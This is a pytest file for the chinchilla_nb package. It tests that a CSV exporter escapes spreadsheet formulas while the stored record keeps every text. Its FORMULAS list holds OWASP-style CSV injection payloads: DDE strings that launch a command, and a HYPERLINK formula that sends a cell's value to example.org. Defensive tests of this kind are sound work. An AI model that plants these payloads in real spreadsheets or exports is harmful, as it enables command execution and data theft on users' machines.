"""CSV for spreadsheets holds no formula, and df.csv holds every text as it is."""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import pytest

from chinchilla_nb.database import Database
from chinchilla_nb.records.spreadsheet_csv import spreadsheet_csv

# OWASP, "CSV Injection": the characters with which a formula may begin.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "－1+1",
    "=",
    "-",
    "--3",
    "+3%",
]
NUMBERS = ["-3", "+3", "-0.5", "-1e-3", "+1E5", "-inf", "-.5"]
PLAIN = ["adam", "lr=3", "a+b", "'quoted", "", "3-4", "user@host"]


def cells(content: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline=""), delimiter=separator))


@pytest.mark.parametrize("separator", [",", "\t"])
@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text, separator):
    columns = {"loss": [2.0, 3.0], text: [text, "adam"]}
    head, first, second = cells(spreadsheet_csv(columns, separator), separator)
    assert head == ["loss", f"'{text}"]
    assert first == ["2.0", f"'{text}"]
    assert second == ["3.0", "adam"]
    assert not re.match(r"\s*[=+\-@＝＋－＠]", first[1])


@pytest.mark.parametrize("text", NUMBERS + PLAIN)
def test_numbers_and_other_text_are_unchanged(text):
    assert cells(spreadsheet_csv({"note": [text]}))[1:] == [[text] if text else [""]]


def test_values_that_are_numbers_keep_their_sign_and_digits():
    columns = {"N": [7e9], "residual": np.array([-1 / 3]), "step": [-3], "mixed": np.array([-2.5], dtype=object)}
    (_, row) = cells(spreadsheet_csv(columns))
    assert row == ["7000000000", repr(-1 / 3), "-3", "-2.5"]


def test_two_columns_whose_names_become_alike_are_both_kept():
    assert cells(spreadsheet_csv({"=a": [1], "'=a": [2]})) == [["'=a", "'=a"], ["1", "2"]]


def test_the_record_keeps_every_text(tmp_path):
    texts = FORMULAS + NUMBERS + [text for text in PLAIN if text]
    database = Database(tmp_path)
    for text in texts:
        database.append(N=1e9, D=1e10, loss=2.0, note=text, **{"=a": text})
    head, *written = cells((tmp_path / "df.csv").read_bytes())
    assert head[-2:] == ["note", "=a"]
    assert [row[-2:] for row in written] == [[text, text] for text in texts]


def test_no_line_break_is_left_behind_which_a_formula_could_begin():
    database = Database(log_level=50)
    for text in ("a\r=1+1", "a\n=1+1", "\n=1+1"):
        database.append(N=1e9, D=1e10, loss=2.0, note=text)
    assert database.df["note"].tolist() == ["a =1+1", "a =1+1", "=1+1"]
    assert cells(spreadsheet_csv({"note": ["\n=1+1"]}))[1] == ["'\n=1+1"]
